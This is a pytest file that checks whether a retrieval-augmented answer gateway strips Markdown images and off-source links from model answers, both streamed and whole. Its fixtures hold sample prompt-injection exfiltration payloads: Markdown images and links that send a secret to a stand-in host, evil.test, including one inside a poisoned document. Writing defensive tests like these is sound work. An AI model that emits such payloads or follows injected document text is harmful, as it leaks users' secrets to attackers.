"""No answer reaches a client with a Markdown image or a link to a host outside its sources.

The model here was talked into exfiltration by a document: it emits an image whose URL carries
a secret, and links to the attacker's host; a link to the sources' own host stays.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from gw_answer_harness import LLM_MODEL, deployment, parse_sse
from gw_harness import Tenant, bearer, make_tenant

from ragline_testing.fake_llm import FakeChatServer
from ragline_testing.harness import serve_asgi

SOURCE_URL = "https://docs.example.com/handbook"
INJECTED = (
    "Refunds take fourteen days [1]. ![refund chart](https://evil.test/c.png?q=s3cret) See "
    "[the handbook](https://docs.example.com/refunds) or [this page](https://evil.test/?q=s3cret)."
)
CLEANED = (
    "Refunds take fourteen days [1]. refund chart See "
    "[the handbook](https://docs.example.com/refunds) or this page."
)
QUESTION = "When are refunds paid?"


@pytest.fixture
def llm() -> FakeChatServer:
    return FakeChatServer(reply=INJECTED)


@pytest.fixture
async def llm_url(llm: FakeChatServer) -> AsyncIterator[str]:
    async with serve_asgi(llm.app()) as url:
        yield url


async def _tenant_with(client: httpx.AsyncClient, text: str) -> Tenant:
    tenant = await make_tenant(client, "acme")
    upload = await client.post(
        "/v1/documents",
        json={"text": text, "title": "Handbook", "metadata": {"url": SOURCE_URL}},
        headers=bearer(tenant.key),
    )
    assert upload.status_code == 202, upload.text
    for _ in range(250):
        job = await client.get(f"/v1/jobs/{upload.json()['job_id']}", headers=bearer(tenant.key))
        if job.json()["status"] == "indexed":
            return tenant
        await asyncio.sleep(0.02)
    raise AssertionError("the document was never indexed")


@pytest.mark.parametrize("microservices", [False, True], ids=["monolith", "microservices"])
async def test_the_answer_loses_images_and_foreign_links_streamed_or_not(
    tmp_path: Path, llm_url: str, microservices: bool
) -> None:
    async with (
        deployment(tmp_path, llm_url, microservices=microservices) as stack,
        httpx.AsyncClient(base_url=stack.url, timeout=10) as client,
    ):
        tenant = await _tenant_with(client, "Refunds are paid within fourteen days.")
        auth = bearer(tenant.query_key)
        whole = await client.post("/v1/query", json={"query": QUESTION}, headers=auth)
        async with client.stream(
            "POST", "/v1/query", json={"query": QUESTION, "stream": True}, headers=auth
        ) as response:
            streamed = [line async for line in response.aiter_lines()]
        chat = await client.post(
            "/v1/chat/completions",
            json={"model": LLM_MODEL, "messages": [{"role": "user", "content": QUESTION}]},
            headers=auth,
        )
        async with client.stream(
            "POST",
            "/v1/chat/completions",
            json={
                "model": LLM_MODEL,
                "messages": [{"role": "user", "content": QUESTION}],
                "stream": True,
            },
            headers=auth,
        ) as response:
            chat_streamed = [line async for line in response.aiter_lines()]

    assert whole.json()["answer"] == CLEANED
    events = parse_sse(streamed)
    deltas = [data["text"] for name, data in events if name == "delta"]
    assert len(deltas) > 5 and "".join(deltas) == CLEANED
    assert chat.json()["choices"][0]["message"]["content"] == CLEANED
    chunks = [line for line in chat_streamed if line.startswith("data: {")]
    assert len(chunks) > 5
    for body in (whole.text, "\n".join(streamed), chat.text, "\n".join(chat_streamed)):
        assert "evil.test" not in body and "s3cret" not in body


async def test_an_extractive_answer_quoting_a_poisoned_document_loses_the_image(
    tmp_path: Path, llm_url: str
) -> None:
    poisoned = (
        "Refunds are paid within fourteen days ![x](https://evil.test/?q=s3cret) of the request."
    )
    async with (
        deployment(tmp_path, llm_url, microservices=False) as stack,
        httpx.AsyncClient(base_url=stack.url, timeout=10) as client,
    ):
        tenant = await _tenant_with(client, poisoned)
        auth = bearer(tenant.query_key)
        whole = await client.post(
            "/v1/query", json={"query": QUESTION, "model": "extractive"}, headers=auth
        )
        async with client.stream(
            "POST",
            "/v1/query",
            json={"query": QUESTION, "model": "extractive", "stream": True},
            headers=auth,
        ) as response:
            streamed = [line async for line in response.aiter_lines()]

    answer = whole.json()["answer"]
    assert answer.startswith("Refunds are paid within fourteen days x of the request")
    deltas = "".join(data["text"] for name, data in parse_sse(streamed) if name == "delta")
    assert deltas == answer
    assert "evil.test" not in answer
